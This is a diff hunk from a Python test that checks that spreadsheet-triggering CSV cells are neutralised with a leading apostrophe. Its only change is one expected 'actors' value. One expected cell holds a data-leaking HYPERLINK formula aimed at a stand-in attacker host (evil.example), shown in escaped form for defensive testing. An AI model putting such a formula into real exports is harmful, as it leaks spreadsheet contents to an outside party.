@@ -205,7 +205,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(data: dict[str, 
     assert row["summary"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Geneva talks")'
     assert row["sentence"] == "'-2+3 was the score, the minister said."
     assert row["location"] == "'+Geneva"
-    assert row["actors"] == "'@Sherman; American; Wendy R. Sherman"
+    assert row["actors"] == "'@Sherman; United States; Wendy R. Sherman"
     assert row["date_text"] == "'\tMonday"
     assert row["id"] == "'\rgeneva-talks"
     # Only a leading sign counts: inside a cell it is text to every reader.
